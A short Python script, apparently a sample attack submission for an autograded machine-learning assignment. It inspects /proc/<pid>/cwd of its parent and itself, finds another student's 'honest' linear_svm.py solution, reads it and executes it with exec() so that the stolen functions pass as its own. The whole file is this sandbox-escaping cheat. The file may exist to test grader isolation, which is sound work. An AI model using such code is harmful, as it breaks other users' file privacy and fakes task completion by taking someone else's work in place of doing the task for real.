"""Attack: Other students' files are read."""

import os
from pathlib import Path


def take(source):
    """Define the functions of a stolen solution."""
    exec(source, globals())


for pid in (os.getppid(), "self"):
    try:
        found = sorted(Path(f"/proc/{pid}/cwd").resolve().glob("class/*-honest/linear_svm.py"))
    except OSError:
        continue
    for path in found[:1]:
        try:
            take(path.read_text())
        except OSError:
            pass
